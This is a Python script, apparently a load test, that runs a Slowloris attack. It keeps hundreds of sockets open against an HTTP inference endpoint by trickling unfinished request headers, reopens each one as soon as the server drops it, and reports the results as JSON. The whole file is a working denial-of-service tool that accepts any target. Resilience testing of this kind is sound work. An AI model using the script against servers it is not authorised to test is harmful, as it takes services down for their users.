#!/usr/bin/env python3
"""Slowloris: keep N sockets open against an HTTP server, each sending its request a byte at a time.

Each socket sends `POST /v2/models/tiny_mlp/infer HTTP/1.1`, then header bytes that never end,
one byte every 1/rate seconds. When the server answers (a 408, say) or closes, the socket is
counted and reopened at once, as a real attacker would, so the server always faces N of them
(after a ramp: the sockets first open spread over --ramp seconds, so their timeouts do not all
fall in the same second).
Standard library only (asyncio).

    python3 loadtest/slowloris.py --target 127.0.0.1:8000 --sockets 500 --rate 1 --duration 60 \
        --json-out slowloris.json

The JSON result: sockets opened, answers by status line, closes and resets without an answer,
the open count sampled once a second (min / median / max over the run, and at the end), and the
longest a single socket stayed open.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import statistics
import time


class Stats:
    def __init__(self) -> None:
        self.opened = 0
        self.open = 0
        self.answers: dict[str, int] = {}
        self.closed_silently = 0
        self.reset = 0
        self.connect_failed = 0
        self.longest_open_s = 0.0
        self.samples: list[int] = []


async def one_socket(
    host: str, port: int, interval: float, delay: float, stop: asyncio.Event, stats: Stats, i: int
) -> None:
    head = b"POST /v2/models/tiny_mlp/infer HTTP/1.1\r\nHost: victim\r\nX-Slow-" + str(i).encode() + b": "
    await asyncio.sleep(delay)
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            stats.connect_failed += 1
            await asyncio.sleep(1)
            continue
        stats.opened += 1
        stats.open += 1
        opened_at = time.monotonic()
        sent = 0
        try:
            while not stop.is_set():
                byte = head[sent : sent + 1] if sent < len(head) else b"a"
                writer.write(byte)
                await writer.drain()
                sent += 1
                try:
                    data = await asyncio.wait_for(reader.read(4096), timeout=interval)
                except asyncio.TimeoutError:
                    continue
                if not data:
                    stats.closed_silently += 1
                else:
                    status = data.split(b"\r\n", 1)[0].decode(errors="replace")
                    stats.answers[status] = stats.answers.get(status, 0) + 1
                break
        except (ConnectionError, OSError):
            stats.reset += 1
        finally:
            stats.open -= 1
            stats.longest_open_s = max(stats.longest_open_s, time.monotonic() - opened_at)
            writer.close()


async def main() -> None:
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--target", required=True, help="host:port")
    p.add_argument("--sockets", type=int, default=500)
    p.add_argument("--rate", type=float, default=1.0, help="bytes per second per socket")
    p.add_argument("--duration", type=float, default=60.0, help="seconds")
    p.add_argument("--ramp", type=float, default=10.0, help="seconds over which the sockets first open")
    p.add_argument("--json-out", help="result file (default: standard output)")
    args = p.parse_args()
    host, port = args.target.rsplit(":", 1)
    stats = Stats()
    stop = asyncio.Event()
    tasks = [
        asyncio.create_task(
            one_socket(host, int(port), 1.0 / args.rate, args.ramp * i / args.sockets, stop, stats, i)
        )
        for i in range(args.sockets)
    ]
    deadline = time.monotonic() + args.duration
    while time.monotonic() < deadline:
        await asyncio.sleep(1)
        stats.samples.append(stats.open)
    open_at_end = stats.open
    stop.set()
    await asyncio.gather(*tasks, return_exceptions=True)
    result = {
        "sockets": args.sockets,
        "rate_bytes_per_s": args.rate,
        "duration_s": args.duration,
        "opened": stats.opened,
        "answers": stats.answers,
        "closed_without_answer": stats.closed_silently,
        "reset": stats.reset,
        "connect_failed": stats.connect_failed,
        "open_min": min(stats.samples, default=0),
        "open_median": statistics.median(stats.samples) if stats.samples else 0,
        "open_max": max(stats.samples, default=0),
        "open_at_end": open_at_end,
        "longest_open_s": round(stats.longest_open_s, 1),
    }
    text = json.dumps(result, indent=2)
    if args.json_out:
        with open(args.json_out, "w") as f:
            f.write(text + "\n")
    else:
        print(text)


if __name__ == "__main__":
    asyncio.run(main())
